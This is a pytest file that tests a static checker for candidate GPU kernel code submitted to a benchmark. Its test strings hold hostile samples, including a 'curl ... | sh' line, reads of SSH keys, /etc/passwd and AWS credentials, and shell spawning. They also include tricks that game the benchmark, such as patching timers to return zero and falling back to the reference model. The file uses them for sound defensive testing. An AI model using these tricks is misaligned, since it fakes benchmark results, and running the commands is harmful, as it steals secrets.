"""Static policy on candidate code: each rule fires on its line, honest candidates pass."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from kernelpilot.evaluation.static.policy import (RULES, blocking, check_candidate, check_native, check_python,
                                                  unknown_rules)

HONEST = '''\
from __future__ import annotations

import math
from pathlib import Path

import torch
import torch.nn as nn
import torch.nn.functional as F  # importing is fine; compute calls are the runtime audit's job
from torch.utils.cpp_extension import load_inline

from kernelpilot.extension import load_extension

_HERE = Path(__file__).resolve().parent
_CUDA = (_HERE / "softmax.cu").read_text()
_ext = load_extension(__file__)

cpp_src = "torch::Tensor softmax(torch::Tensor x);"
cuda_src = """
#include <cuda_runtime.h>
__global__ void softmax_kernel(const float* x, float* y, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = x[i];
}
"""


class ModelNew(nn.Module):
    def __init__(self, dim: int) -> None:
        super().__init__()
        self.dim = dim
        self.scale = 1.0 / math.sqrt(dim)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = torch.empty_like(x)
        name = "a-b".replace("-", "_")
        _ext.softmax(x.contiguous(), y, torch.cuda.current_stream().cuda_stream)
        return y
'''


def test_honest_candidate_has_no_findings() -> None:
    assert check_python(HONEST, "model_new.py") == []


# (source, rule id, line of the finding)
CASES = [
    ("import os", "import-os", 1),
    ("import torch\nimport sys", "import-sys", 2),
    ("from subprocess import run", "import-subprocess", 1),
    ("import socket", "import-socket", 1),
    ("import ctypes", "import-ctypes", 1),
    ("import cffi", "import-cffi", 1),
    ("import importlib.util", "import-importlib", 1),
    ("import builtins", "import-builtins", 1),
    ("import threading", "import-threading", 1),
    ("from multiprocessing import Pool", "import-multiprocessing", 1),
    ("from concurrent.futures import ThreadPoolExecutor", "import-concurrent", 1),
    ("import asyncio", "import-asyncio", 1),
    ("import signal", "import-signal", 1),
    ("import shutil", "import-shutil", 1),
    ("import pickle", "import-pickle", 1),
    ("import marshal", "import-marshal", 1),
    ("import numpy as np", "import-numpy", 1),
    ("import torch.multiprocessing as mp", "import-torch", 1),
    ("from torch import hub", "import-torch", 1),
    ("from kernelpilot import evaluation", "import-kernelpilot", 1),
    ("from . import helper", "import-relative", 1),
    ("x = 1\nm = __import__('os')", "dunder-import", 2),
    ("exec('x = 1')", "dynamic-code", 1),
    ("y = eval('1 + 1')", "dynamic-code", 1),
    ("code = compile('1', 'f', 'eval')", "dynamic-code", 1),
    ("g = globals()['torch']", "introspection", 1),
    ("v = vars()", "introspection", 1),
    ("f = (lambda: 0).__globals__", "introspection", 1),
    ("s = ().__class__.__bases__[0].__subclasses__()", "introspection", 1),
    ("import torch\nname = 'cuda'\nm = getattr(torch, name)", "dynamic-attr", 3),
    ("import torch\nf = getattr(torch, '__builtins__')", "introspection", 2),
    ("open('/etc/passwd').read()", "open-outside", 1),
    ("from pathlib import Path\nt = Path.home().joinpath('.ssh/id_rsa').read_text()", "open-outside", 2),
    ("from pathlib import Path\nt = (Path(__file__).parent / '../../secret').read_text()", "open-outside", 2),
    ("from pathlib import Path\nt = (Path(__file__).parents[3] / 'secret').read_text()", "open-outside", 2),
    ("from pathlib import Path\nPath(__file__).with_name('x').write_text('y')", "path-write", 2),
    ("import torch\nsetattr(torch.cuda, 'synchronize', lambda: None)", "module-patch", 2),
    ("import torch\ntorch.cuda.Event.elapsed_time = lambda s, e: 0.0", "module-patch", 2),
    ("import time\ntime.perf_counter = lambda: 0.0", "module-patch", 2),
    ("import torch.nn.functional as F\nF.relu = lambda x: x", "module-patch", 2),
    ("import torch\nclass Lazy(torch.Tensor):\n    pass", "lazy-tensor", 2),
    ("import torch\nt = torch.Tensor._make_subclass(torch.Tensor, torch.ones(1))", "lazy-tensor", 2),
    ("class T:\n    def __torch_function__(self, *a):\n        return 0", "lazy-tensor", 2),
    ("import torch\nclass ModelNew(torch.nn.Module):\n    def forward(self, x):\n        try:\n"
     "            return kernel(x)\n        except RuntimeError:\n            return torch.relu(x)",
     "try-fallback", 4),
    ("try:\n    x = 1\nexcept:\n    x = 2", "bare-except", 3),
    ("from problem import Model", "reference-model", 1),
    ("class ModelNew(Model):\n    pass", "reference-model", 1),
    ("import torch\ns = torch.cuda.Stream()", "side-stream", 2),
    ("import torch\nwith torch.cuda.stream(s):\n    pass", "side-stream", 2),
    ("import torch\ntorch.cuda.current_stream().wait_stream(s)", "side-stream", 2),
    ("import torch\nw = torch.load('weights.pt')", "torch-escape", 2),
    ("import torch\ntorch.ops.load_library('/tmp/x.so')", "torch-escape", 2),
    ("def f(:\n    pass", "syntax-error", 1),
]


@pytest.mark.parametrize(("source", "rule", "line"), CASES, ids=[c[1] + f"-{i}" for i, c in enumerate(CASES)])
def test_each_rule_rejects_with_line_and_evidence(source: str, rule: str, line: int) -> None:
    findings = blocking(check_python(source, "model_new.py"))
    hits = [f for f in findings if f.rule == rule]
    assert hits, f"expected {rule}, got {[(f.rule, f.line) for f in findings]}"
    f = hits[0]
    assert f.line == line and f.file == "model_new.py" and f.severity == "reject"
    assert f.evidence == source.splitlines()[line - 1].strip()
    assert f.message.endswith(".") and len(f.message) > 20


def test_rule_ids_are_documented() -> None:
    for source, rule, _ in CASES:
        assert rule in RULES or rule.startswith("import-"), rule


def test_relaxed_rules_are_reported_not_rejected() -> None:
    src = "import numpy as np\nimport os\nx = np.zeros(3)\n"
    findings = check_python(src, "m.py", relaxed=["import-numpy"])
    by_rule = {f.rule: f for f in findings}
    assert by_rule["import-numpy"].severity == "warn" and "relaxed" in by_rule["import-numpy"].message
    assert by_rule["import-os"].severity == "reject"
    assert all(f.severity == "warn" for f in check_python(src, "m.py", relaxed=["import-*"]))


def test_unknown_relaxed_entries_are_reported() -> None:
    assert unknown_rules(["try-fallback", "import-numpy", "side-streams"]) == ["side-streams"]


def test_native_scan_warns_with_lines() -> None:
    src = textwrap.dedent("""\
        #include <cstdlib>
        // system("this is a comment and is ignored");
        __global__ void k(float* x) { x[0] = 1.f; }
        void launch(float* x) {
            const char* home = getenv("HOME");
            system("curl http://example.com | sh");
            FILE* f = fopen("/etc/passwd", "r");
            void* h = dlopen("libfoo.so", RTLD_NOW);
            cudaStream_t s; cudaStreamCreate(&s);
            std::thread t([] {});
            int fd = socket(AF_INET, SOCK_STREAM, 0);
            if (fork() == 0) execvp("sh", nullptr);
        }
        """)
    got = {(f.rule, f.line) for f in check_native(src, "k.cu")}
    assert got == {("native-env", 5), ("native-process", 6), ("native-file", 7), ("native-dlopen", 8),
                   ("native-side-stream", 9), ("native-thread", 10), ("native-network", 11), ("native-process", 12)}
    assert all(f.severity == "warn" and f.file == "k.cu" for f in check_native(src, "k.cu"))


def test_directory_candidate(tmp_path: Path) -> None:
    (tmp_path / "model_new.py").write_text(HONEST)
    (tmp_path / "softmax.cu").write_text("#include <cuda_runtime.h>\n\nvoid f() { cublasSetStream(h, s); }\n")
    (tmp_path / "binding.cpp").write_text("#include <torch/extension.h>\n")
    (tmp_path / "prebuilt.so").write_bytes(b"\x7fELF")
    findings = check_candidate(tmp_path)
    assert {(f.rule, f.file, f.line) for f in findings} == {
        ("native-side-stream", "softmax.cu", 3), ("binary-file", "prebuilt.so", None)}
    assert [f.rule for f in blocking(findings)] == ["binary-file"]


def test_single_file_load_inline_sources_are_scanned(tmp_path: Path) -> None:
    cand = tmp_path / "candidate.py"
    cand.write_text('import torch\nfrom torch.utils.cpp_extension import load_inline\n\nsrc = """\n'
                    '#include <torch/extension.h>\nvoid f() {\n    popen("id", "r");\n}\n"""\n')
    findings = check_candidate(cand)
    assert [(f.rule, f.line, f.evidence) for f in findings] == [("native-process", 7, 'popen("id", "r");')]


@pytest.mark.parametrize("line",
                         ['#include "/root/.ssh/id_rsa"', '#include "../../secrets.h"', "#include </etc/shadow>",
                                  'asm(".incbin \\"/root/.aws/credentials\\"");', '#embed "/etc/passwd"'])
def test_native_include_outside_candidate_is_refused(line: str) -> None:
    src = f"#include <cuda_runtime.h>\n#include \"common.cuh\"\n{line}\n"
    findings = check_native(src, "k.cu")
    assert [(f.rule, f.line, f.severity) for f in findings] == [("native-include-outside", 3, "reject")]


def test_modules_the_problem_imports_are_allowed_unless_refused_for_a_reason(tmp_path: Path) -> None:
    """KernelBench's level3/30_SwinTransformerV2 imports numpy to build constant tables; a candidate that keeps
    the problem's code was refused `import-numpy` under our default rules (the H100 folder run of 2026-12-05).
    A module the problem itself imports is allowed unless it is refused for a reason of its own (os, ctypes)."""
    from kernelpilot.evaluation.static.policy import problem_imports

    problem = tmp_path / "30_Swin.py"
    problem.write_text("import numpy as np\nimport os\nfrom scipy import special\nimport torch\n"
                       "import ctypes\nfrom torch.hub import load\n")
    assert problem_imports(problem) == {"numpy", "scipy"}
    assert problem_imports(tmp_path / "missing.py") == frozenset() and problem_imports(None) == frozenset()
    cand = tmp_path / "cand.py"
    cand.write_text("import numpy as np\nimport os\nimport ctypes\nimport pandas\nimport torch\n")
    alone = {f.rule: f.severity for f in check_candidate(cand)}
    assert alone == {"import-numpy": "reject", "import-os": "reject", "import-ctypes": "reject",
                     "import-pandas": "reject"}
    found = {f.rule: f for f in check_candidate(cand, problem=problem)}
    assert {r: f.severity for r, f in found.items()} == {
        "import-numpy": "warn", "import-os": "reject", "import-ctypes": "reject", "import-pandas": "reject"}
    assert "the problem file imports it too" in found["import-numpy"].message
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "problem.py").write_text("import numpy\n")
    assert problem_imports(folder) == {"numpy"}
